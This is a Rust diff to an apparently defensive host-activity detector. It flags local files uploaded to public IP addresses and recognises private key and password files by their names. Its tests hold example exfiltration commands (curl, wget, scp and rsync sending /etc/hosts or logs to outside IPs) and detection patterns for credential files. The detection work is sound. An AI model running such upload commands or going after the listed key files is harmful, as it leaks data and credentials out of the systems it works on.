@@ -1496,6 +1496,42 @@ fn copies_from_remote(cmd: &str) -> bool {
     }
 }
 
+/// The public address (an IP literal outside the site) a transfer tool's command line
+/// sends a local file to, if it does: `curl -T`/`-F`/`--data-binary @FILE`, `wget
+/// --post-file`, `scp`/`rsync`/`sftp` from a local path to `HOST:`. A host given by name
+/// is not judged (where a name points is not on the command line).
+fn uploads_to_public_ip(name: &str, cmd: &str, hosts: &[String]) -> Option<String> {
+    let words: Vec<&str> = cmd.split_whitespace().collect();
+    let sends = match name {
+        "curl" => words.iter().enumerate().any(|(i, w)| {
+            let next = words.get(i + 1).copied().unwrap_or("");
+            *w == "-T"
+                || w.starts_with("--upload-file")
+                || (w.starts_with("-T") && w.len() > 2)
+                || ((*w == "-F" || *w == "--form") && next.contains("=@"))
+                || (w.starts_with("--form=") && w.contains("=@"))
+                || ((*w == "-d" || w.starts_with("--data")) && next.starts_with('@'))
+                || (w.starts_with("--data") && w.contains("=@"))
+                || w.starts_with("-d@")
+        }),
+        "wget" => words
+            .iter()
+            .any(|w| w.starts_with("--post-file") || w.starts_with("--body-file")),
+        "scp" | "sftp" | "rsync" => !copies_from_remote(cmd),
+        _ => false,
+    };
+    if !sends {
+        return None;
+    }
+    hosts.iter().find_map(|h| {
+        let h = h.trim_matches(|c| c == '[' || c == ']');
+        match h.parse::<IpAddr>() {
+            Ok(ip) if !is_inside(&ip) => Some(h.to_string()),
+            _ => None,
+        }
+    })
+}
+
 /// The destination host of an `ssh` command line that opens a tunnel (port forwarding
 /// `-D`, `-L`, `-R` or a tun device `-w`): a SOCKS proxy or a forwarded port is a network
 /// tool's connection, not a remote command. `None` for a plain `ssh host cmd`.
@@ -1586,6 +1622,9 @@ fn activity_of(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<
                         return Some(Activity::Download(name, cmd));
                     }
                     let hosts = remote_hosts(&cmd);
+                    if let Some(ip) = uploads_to_public_ip(&name, &cmd, &hosts) {
+                        return Some(Activity::Outbound(ip, name));
+                    }
                     if !hosts.is_empty() {
                         let outside = hosts.iter().any(|h| host_is_outside(h));
                         return Some(Activity::Contact(hosts.join(","), name, outside));
@@ -1615,6 +1654,12 @@ fn activity_of(ev: &FlatEvent, is_maintenance: &dyn Fn(&str) -> bool) -> Option<
                             return Some(Activity::FetchToStdout(name, cmd));
                         }
                         None if !hosts.is_empty() => {
+                            // A local file sent to a public address written as a number
+                            // (`curl -T FILE https://203.0.113.9/`): data leaving the site,
+                            // weighed as an unusual connection out.
+                            if let Some(ip) = uploads_to_public_ip(&name, &cmd, &hosts) {
+                                return Some(Activity::Outbound(ip, name));
+                            }
                             // An upload or a request whose body is discarded.
                             let outside = hosts.iter().any(|h| host_is_outside(h));
                             return Some(Activity::Contact(hosts.join(","), name, outside));
@@ -2426,6 +2471,30 @@ pub fn is_credential_material(path: &str) -> bool {
         || path.contains("/.azure/")
         || matches!(base, "credentials.json" | "secrets.yaml" | "secrets.yml")
         || secrets_mount(path)
+        || key_or_password_file(base)
+}
+
+/// Whether a file name has the shape of a private key, a key store or a password map,
+/// wherever it lives (kinds, not a list of products): `server.key`, `privkey.pem`, a DKIM
+/// signer's `mail.private`, `id_rsa`-style names outside `.ssh`, PKCS#12 and Java key
+/// stores, password managers' databases, password maps such as `sasl_passwd` or
+/// `.htpasswd` (not `/etc/passwd`, which holds no secret, nor its backup `passwd-`).
+fn key_or_password_file(base: &str) -> bool {
+    let b = base.to_ascii_lowercase();
+    let ends = |sfx: &[&str]| sfx.iter().any(|x| b.ends_with(x));
+    (ends(&[
+        ".key",
+        ".private",
+        ".p12",
+        ".pfx",
+        ".jks",
+        ".keystore",
+        ".kdbx",
+    ]) && !ends(&[".pub.key", "public.key"]))
+        || b.starts_with("privkey")
+        || (b.contains("private") && ends(&[".pem", ".der"]))
+        || ends(&["_rsa", "_dsa", "_ecdsa", "_ed25519"])
+        || (b.contains("passwd") && !matches!(b.as_str(), "passwd" | "passwd-" | "passwd.lock"))
 }
 
 /// Whether a path lies in a directory of mounted secrets by its name (`/var/openfaas/secrets/`,
@@ -4012,10 +4081,29 @@ mod tests {
         ] {
             assert!(is_credential_material(p), "{p}");
         }
+        // Keys, key stores and password maps by the shape of their names.
+        for p in [
+            "/etc/postfix/sasl_passwd",
+            "/var/www/.htpasswd",
+            "/tmp/docker-mailserver/opendkim/keys/example.org/mail.private",
+            "/etc/nginx/tls/server.key",
+            "/etc/letsencrypt/live/example.org/privkey.pem",
+            "/opt/app/conf/keystore.jks",
+            "/srv/ci/deploy_ed25519",
+            "/home/ops/vault.kdbx",
+            "/etc/ssl/site-private.pem",
+        ] {
+            assert!(is_credential_material(p), "{p}");
+        }
         for p in [
             "/app/secrets-guide.md",
             "/srv/docs/secret.txt",
             "/home/app/function/handler.py",
+            "/etc/passwd",
+            "/etc/passwd-",
+            "/usr/share/keyrings/repo-public.key",
+            "/etc/ssh/ssh_host_ed25519_key.pub",
+            "/srv/app/keys.txt",
         ] {
             assert!(!is_credential_material(p), "{p}");
         }
@@ -4459,5 +4547,57 @@ mod tests {
             vec!["/proc/self/environ".to_string()]
         ));
         assert!(!may_be_step("close", vec!["/etc/shadow".to_string()]));
+    }
+
+    /// A local file sent to a public address literal is an unusual connection out; to a
+    /// host by name, or inside the site, it stays a contact; a fetch stays a download.
+    #[test]
+    fn uploads_to_public_addresses_are_outbound() {
+        let exec = |name: &str, cmd: &str| {
+            activity(
+                &ev(&format!(
+                    r#"{{"evt.type":"execve","evt.rawres":0,"proc.name":"{name}","proc.exepath":"/usr/bin/{name}","proc.cmdline":"{cmd}"}}"#
+                )),
+                &|_| false,
+            )
+        };
+        let outbound = |a: Option<Activity>| matches!(a, Some(Activity::Outbound(..)));
+        assert!(outbound(exec(
+            "curl",
+            "curl -s -T /var/log/cron-20261206.zst https://45.141.84.11/u/"
+        )));
+        assert!(outbound(exec(
+            "curl",
+            "curl -F file=@/tmp/u.csv http://198.51.100.9:8080/up"
+        )));
+        assert!(outbound(exec(
+            "curl",
+            "curl --data-binary @/etc/hosts http://198.51.100.9/"
+        )));
+        assert!(outbound(exec("scp", "scp /tmp/u.csv r@185.244.25.3:")));
+        assert!(outbound(exec(
+            "rsync",
+            "rsync -az /srv/data/ 185.244.25.3:/x/"
+        )));
+        assert!(outbound(exec(
+            "wget",
+            "wget --post-file=/etc/hosts http://198.51.100.9/"
+        )));
+        for (name, cmd) in [
+            (
+                "curl",
+                "curl -s -T /var/log/x https://backup.example.com/u/",
+            ),
+            ("curl", "curl -s -T /var/log/x https://10.0.3.7/u/"),
+            ("scp", "scp /tmp/u.csv r@10.0.0.5:"),
+            ("scp", "scp /tmp/u.csv backup-host:"),
+            ("curl", "curl -s -o /dev/null https://198.51.100.9/health"),
+        ] {
+            assert!(!outbound(exec(name, cmd)), "{cmd}");
+        }
+        assert!(matches!(
+            exec("scp", "scp r@185.244.25.3:/x /tmp/x"),
+            Some(Activity::Download(..))
+        ));
     }
 }
